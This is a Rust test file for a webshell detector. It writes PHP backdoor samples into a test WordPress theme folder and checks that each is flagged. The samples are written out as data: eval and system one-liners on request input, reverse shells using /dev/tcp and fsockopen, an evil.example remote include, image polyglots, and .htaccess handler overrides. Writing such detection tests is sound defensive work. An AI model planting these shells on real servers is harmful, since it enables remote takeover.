//! Detection of webshells and backdoors written for these tests, modelled on the public
//! families: one-line droppers, c99/r57/WSO-style kits, preg_replace /e, obfuscated
//! eval chains, image polyglots, server-directive tricks. Each sample is planted where
//! an intruder would put it *outside* upload folders (so the name and place heuristics
//! do not do the work), and must be flagged with the expected reason. The known misses
//! are listed, so that the figure printed is honest and a regression fails.

mod common;

use std::fs;

use common::*;

struct Sample {
    name: &'static str,
    content: Vec<u8>,
    /// A reason expected among the event's reasons; `None` for a known miss.
    expect: Option<&'static str>,
}

fn php(name: &'static str, content: &str, expect: Option<&'static str>) -> Sample {
    Sample {
        name,
        content: content.as_bytes().to_vec(),
        expect,
    }
}

fn samples() -> Vec<Sample> {
    // A packed payload: base64 of 3,600 pseudo-random bytes, as droppers carry.
    let mut x: u32 = 7;
    let payload: Vec<u8> = (0..3600)
        .map(|_| {
            x = x.wrapping_mul(1_103_515_245).wrapping_add(12_345);
            (x >> 16) as u8
        })
        .collect();
    let b64 = {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(payload)
    };
    let hex = "\\x65\\x76\\x61\\x6c".repeat(60);
    vec![
        php(
            "chopper.php",
            "<?php @eval($_POST['cmd']);?>",
            Some("signature eval-request"),
        ),
        php(
            "one.php",
            "<?php eval($_REQUEST[\"x\"]); ?>",
            Some("signature eval-request"),
        ),
        php(
            "assert.php",
            "<?php @assert($_GET['a']);",
            Some("signature eval-request"),
        ),
        php(
            "sys.php",
            "<?php system($_GET['cmd']); ?>",
            Some("signature exec-request"),
        ),
        php(
            "shellexec.php",
            "<?php echo shell_exec($_POST[\"c\"]);",
            Some("signature exec-request"),
        ),
        php(
            "passthru.php",
            "<?php if(isset($_REQUEST['c'])){passthru($_REQUEST['c'].' 2>&1');}",
            Some("signature exec-request"),
        ),
        php(
            "popen.php",
            "<?php $h = popen($_GET['c'], 'r'); echo fread($h, 4096);",
            Some("signature exec-request"),
        ),
        php(
            "procopen.php",
            "<?php $p = proc_open($_POST['cmd'], [1 => ['pipe','w']], $pipes);",
            Some("signature exec-request"),
        ),
        php(
            "backtick.php",
            "<?php echo `$_GET['c']`; ?>",
            Some("signature backtick-request"),
        ),
        php(
            "varfunc.php",
            "<?php $_GET['f']($_GET['a']); ?>",
            Some("signature variable-function-request"),
        ),
        php(
            "varfunc2.php",
            "<?php $f = $_POST['f']; $f($_POST['a']);",
            Some("signature variable-function-indirect"),
        ),
        php(
            "preg.php",
            "<?php preg_replace(\"/.*/e\", $_POST['code'], \"\");",
            Some("signature preg-replace-e"),
        ),
        php(
            "preg2.php",
            "<?php @preg_replace('#x#ie', $_REQUEST['z'], 'x');",
            Some("signature preg-replace-e"),
        ),
        php(
            "cf.php",
            "<?php $f = create_function('', $_POST['c']); $f();",
            Some("signature create-function"),
        ),
        php(
            "revshell.php",
            "<?php $s = fsockopen('10.0.0.1', 4444); exec('/bin/sh -i <&3 >&3 2>&3');",
            Some("signature reverse-shell"),
        ),
        php(
            "devtcp.php",
            "<?php shell_exec('bash -c \"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\"');",
            Some("signature reverse-shell"),
        ),
        php(
            "rfi.php",
            "<?php include 'http://evil.example/shell.txt';",
            Some("signature remote-include"),
        ),
        php(
            "filtercb.php",
            "<?php filter_var($_REQUEST['c'], FILTER_CALLBACK, array('options' => 'system'));",
            Some("signature callback-to-sink"),
        ),
        php(
            "mbereg.php",
            "<?php mb_ereg_replace('.*', $_REQUEST['c'], '', 'e');",
            Some("signature callback-to-sink"),
        ),
        php(
            "gz.php",
            "<?php eval(gzinflate(base64_decode('80jNycnXUSjPL8pJUQQA')));",
            Some("signature eval-decoded"),
        ),
        php(
            "rot.php",
            "<?php eval(str_rot13(gzinflate(str_rot13(base64_decode('LUzL')))));",
            Some("signature eval-decoded"),
        ),
        php(
            "uncompress.php",
            "<?php @eval(gzuncompress(base64_decode($z)));",
            Some("signature eval-decoded"),
        ),
        php(
            "decodepost.php",
            "<?php $c = base64_decode($_POST['p']); file_put_contents('x', $c);",
            Some("signature decode-request"),
        ),
        php(
            "concat.php",
            "<?php $a = 'ba'.'se6'.'4_de'.'code'; eval($a('ZWNobyAxOw=='));",
            Some("signature eval-dynamic-call"),
        ),
        php(
            "c99.php",
            "<?php /* c99shell v.1.0 */ $c99sh_sourcesurl = 'http://x/'; echo 'c99shell';",
            Some("signature known-webshell"),
        ),
        php(
            "r57.php",
            "<?php $version = 'r57shell 1.40'; function ex($c) { return shell_exec($c); }",
            Some("signature known-webshell"),
        ),
        php(
            "wso.php",
            "<?php $default_action = 'FilesMan'; @session_start();",
            Some("signature known-webshell"),
        ),
        php(
            "b374k.php",
            "<?php // b374k shell\n$s_pass = 'x';",
            Some("signature known-webshell"),
        ),
        php(
            "packed.php",
            &format!("<?php $p = '{b64}'; $d = base64_decode($p);"),
            Some("long base64 run in a script"),
        ),
        php(
            "hexed.php",
            &format!("<?php $x = \"{hex}\"; "),
            Some("long run of hex escapes in a script"),
        ),
        Sample {
            name: "avatar.gif",
            content: b"GIF89a\x01\x00\x01\x00<?php system($_GET['c']); ?>".to_vec(),
            expect: Some("PHP code in a .gif file"),
        },
        Sample {
            name: "favicon.ico",
            content: b"\x00\x00\x01\x00\x01\x00<?php eval($_POST[1]); ?>".to_vec(),
            expect: Some("PHP code in a .ico file"),
        },
        Sample {
            name: "logo.png",
            content: b"<?php @eval($_REQUEST['x']); ?>".to_vec(),
            expect: Some("content is not a PNG image"),
        },
        php(
            "README",
            "<?php system($_GET['x']);",
            Some("PHP code in a file without an extension"),
        ),
        php(
            ".user.ini",
            "auto_prepend_file = /var/www/html/favicon.ico\n",
            Some("signature handler-override"),
        ),
        php(
            ".htaccess",
            "AddType application/x-httpd-php .png .jpg\n",
            Some("signature handler-override"),
        ),
        php(
            "logo.jpg.php",
            "<?php echo 'innocent';",
            Some("double extension .jpg.php"),
        ),
        php(
            "shell.php.jpg",
            "<?php echo 'x';",
            Some("double extension .php.jpg"),
        ),
        php(
            "shell.PhP",
            "<?php echo 'x';",
            Some("upper-case extension .PhP"),
        ),
        php(".config.php", "<?php echo 'x';", Some("hidden file")),
        php(
            "weevely.php",
            "<?php $k = str_replace('q', '', 'cqreqate_fuqnction'); $f = $k('', 'echo 1;'); $f();",
            Some("signature assembled-name"),
        ),
        // A known miss: a plain file lister, with no request-driven execution or
        // obfuscation to recognise.
        php(
            "manager.php",
            "<?php foreach (scandir('.') as $f) { echo $f; }",
            None,
        ),
    ]
}

#[test]
fn webshell_samples_are_detected() {
    let env = Env::new();
    let dir = env.path("wp-content/themes/site");
    fs::create_dir_all(&dir).unwrap();
    env.init();
    let samples = samples();
    for s in &samples {
        fs::write(dir.join(s.name), &s.content).unwrap();
    }
    let events = env.verify();
    let mut detected = 0;
    for s in &samples {
        let e = event_for(&events, &dir.join(s.name));
        let reasons = reasons(e);
        match s.expect {
            Some(reason) => {
                assert!(reasons.contains(&reason), "{}: {reasons:?}", s.name);
                assert!(
                    e["severity"] != "medium" && e["severity"] != "low",
                    "{}: {e}",
                    s.name
                );
                detected += 1;
            }
            None => assert!(
                reasons.is_empty(),
                "{} is listed as a miss: {reasons:?}",
                s.name
            ),
        }
    }
    println!(
        "webshell samples detected: {detected} of {} ({:.0}%)",
        samples.len(),
        100.0 * detected as f64 / samples.len() as f64
    );
}
